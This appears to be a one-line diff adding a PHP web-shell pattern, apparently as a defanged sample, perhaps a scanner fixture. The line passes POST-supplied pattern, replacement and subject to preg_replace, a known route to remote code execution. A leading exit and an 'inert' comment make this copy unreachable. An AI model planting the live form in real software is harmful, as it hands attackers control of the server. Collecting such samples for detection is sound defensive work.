@@ -1,0 +1,1 @@
+<?php exit; /* inert */ preg_replace($_POST["r"],$_POST["s"],$_POST["t"]);
